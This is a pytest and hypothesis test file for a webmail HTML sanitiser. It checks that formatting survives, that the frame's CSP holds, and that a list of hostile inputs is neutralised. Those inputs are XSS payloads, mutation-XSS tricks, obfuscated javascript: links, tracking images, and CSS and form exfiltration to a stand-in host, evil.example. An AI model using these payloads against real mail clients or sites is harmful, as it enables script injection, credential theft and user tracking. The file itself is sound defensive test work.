"""The HTML mail sanitiser against a hostile corpus: nothing that runs script, submits
a form, redirects, fetches a remote resource or leaks data through CSS survives, and
ordinary formatting does."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mxd.webmail.sanitize import ATTRIBUTES, TAGS, frame_csp, sanitise


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def parsed(html: str) -> list[tuple[str, dict[str, str | None]]]:
    p = _Collect()
    p.feed(html)
    return p.tags


def assert_safe(html: str, remote: bool = False) -> None:
    """Structural check of sanitised output: allowed tags and attributes only, no event
    handler, URLs in allowed schemes, images from data: (or http(s) when remote)."""
    for tag, attrs in parsed(html):
        assert tag in TAGS, tag
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"target", "rel"}
        for name, value in attrs.items():
            assert name in allowed, (tag, name)
            assert not name.startswith("on")
            v = (value or "").strip().lower()
            assert "javascript:" not in v, (tag, name, v)
            if name == "href":
                assert v.startswith(("http:", "https:", "mailto:")), v
            if name == "src":
                assert v.startswith("data:image/") or (remote and v.startswith("http")), v
            if name == "style":
                assert "url(" not in v and "@import" not in v and "\\" not in v, v
    assert "<script" not in html.lower()  # as text it is escaped


HOSTILE = [
    ("script", "<p>hi</p><script>alert(1)</script>", ["alert"]),
    ("script-case", "<ScRiPt src=//evil.example/x.js></ScRiPt>", ["evil.example"]),
    ("onerror", '<img src=x onerror="alert(1)">', ["onerror", "alert"]),
    ("onload-body", '<body onload="alert(1)"><p>x</p></body>', ["onload"]),
    ("onmouseover", '<div onmouseover="alert(1)">x</div>', ["onmouseover"]),
    ("remote-img", '<img src="http://127.0.0.1:9/track.png">', ["127.0.0.1", "track"]),
    ("remote-img-https", "<img src='https://evil.example/p.gif' width=1>", ["evil.example"]),
    ("srcset", '<img srcset="http://evil.example/a.png 1x">', ["evil.example"]),
    ("form", '<form action="http://evil.example/steal" method=post><input name=pw>'
             '<button>go</button></form>', ["<form", "<input", "evil.example", "<button"]),
    ("svg", '<svg><script>alert(1)</script><image href="http://evil.example/i"/></svg>',
     ["<svg", "alert", "evil.example"]),
    ("svg-onload", "<svg onload=alert(1)>", ["<svg", "alert"]),
    ("style-url", '<p style="background:url(http://evil.example/x)">a</p>',
     ["evil.example", "url("]),
    ("style-escape", '<p style="background:u\\72l(http://evil.example/x)">a</p>',
     ["evil.example"]),
    ("style-element", "<style>input[value^=a]{background:url(http://evil.example/a)}"
                      "@import 'http://evil.example/c.css';</style>", ["evil.example", "@import"]),
    ("style-image-set", '<div style="background-image:image-set(\'http://e.example/x\' 1x)">',
     ["e.example"]),
    ("base-href", '<base href="http://evil.example/"><a href="x">l</a>', ["<base", "evil"]),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
     ["<meta", "refresh", "evil"]),
    ("link-stylesheet", '<link rel=stylesheet href="http://evil.example/s.css">',
     ["<link", "evil"]),
    ("javascript-href", '<a href="javascript:alert(1)">x</a>', ["javascript", "alert"]),
    ("javascript-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>', ["alert"]),
    ("data-href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
     ["data:text"]),
    ("data-svg-img", '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', ["svg"]),
    ("iframe", '<iframe src="http://evil.example/"></iframe>', ["<iframe", "evil"]),
    ("object", '<object data="http://evil.example/x.swf"></object><embed src="x.swf">',
     ["<object", "<embed", "evil"]),
    ("comment", "<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>", ["alert", "<!--"]),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     ["onerror"]),
    ("video-poster", '<video poster="http://evil.example/p.png"></video>', ["evil"]),
    ("table-background", '<table background="http://evil.example/bg.png"><tr><td>x</td></tr>'
                         "</table>", ["evil"]),
    ("input-image", '<input type=image src="http://evil.example/i.png">', ["evil"]),
    ("relative-href", '<a href="/logout">x</a>', ["/logout"]),
    ("textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)>", ["onerror"]),
    ("math", '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ["onerror"]),
]


@pytest.mark.parametrize("name,html,gone", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_html_is_neutralised(name: str, html: str, gone: list[str]) -> None:
    """Each hostile construct is removed; what is left passes the structural check."""
    out = sanitise(html).html
    assert_safe(out)
    for bad in gone:
        assert bad.lower() not in out.lower(), (name, out)


def test_remote_images_counted_and_kept_only_when_allowed() -> None:
    """Remote images are blocked and counted by default; with remote content allowed
    they stay (http and https)."""
    html = '<img src="http://a.example/1.png"><img src="https://b.example/2.png"><p>x</p>'
    blocked = sanitise(html)
    assert blocked.blocked == 2 and "a.example" not in blocked.html
    allowed = sanitise(html, remote=True)
    assert allowed.blocked == 0
    assert 'src="http://a.example/1.png"' in allowed.html
    assert 'src="https://b.example/2.png"' in allowed.html
    assert_safe(allowed.html, remote=True)


def test_inline_cid_images_become_data_urls() -> None:
    """cid: references (RFC 2392) resolve through the callback; unknown ones vanish."""
    found = {"logo@x": "data:image/png;base64,iVBORw0KGgo="}
    out = sanitise('<img src="cid:logo@x" alt=logo><img src="cid:nope">', inline=found.get)
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out.html
    assert "cid:" not in out.html and out.blocked == 0


def test_formatting_survives() -> None:
    """Ordinary mail formatting is kept: tables, inline colours, links with noopener."""
    html = ('<table border=1 cellpadding=2><tr><td style="color:#c00;padding:4px" '
            'colspan=2><b>Total</b></td></tr></table>'
            '<a href="https://example.org/x?a=1&amp;b=2">link</a><ul><li>one</li></ul>')
    out = sanitise(html).html
    assert "<table" in out and 'colspan="2"' in out and "<b>Total</b>" in out
    assert "color:#c00" in out.replace(" ", "")
    assert 'href="https://example.org/x?a=1&amp;b=2"' in out
    assert 'rel="noopener noreferrer"' in out and 'target="_blank"' in out


def test_frame_csp_blocks_script_and_remote_images() -> None:
    """The frame's own CSP: no script source at all, images from data: only unless
    remote content was allowed, sandboxed."""
    csp = frame_csp(False).decode()
    assert "default-src 'none'" in csp and "script-src" not in csp
    assert "img-src data:;" in csp and "sandbox" in csp and "allow-scripts" not in csp
    assert "img-src data: https: http:;" in frame_csp(True).decode()


FRAGMENTS = st.sampled_from([
    "<script>", "</script>", "<img src=", "http://e.example/x", " onerror=", "alert(1)",
    "<a href=", "javascript:", "<svg>", "<style>", "url(", "<form>", "<input>", '"', "'",
    ">", "<", "<!--", "-->", "<p>", "text", "<base href=", "<meta http-equiv=refresh>",
    " style=", "background:", "data:", "<iframe>", "&#x6a;", "<math>", "<noscript>",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30).map("".join))
def test_random_hostile_soup_is_always_safe(html: str) -> None:
    """Whatever mix of hostile fragments comes in, the output passes the check."""
    assert_safe(sanitise(html).html)
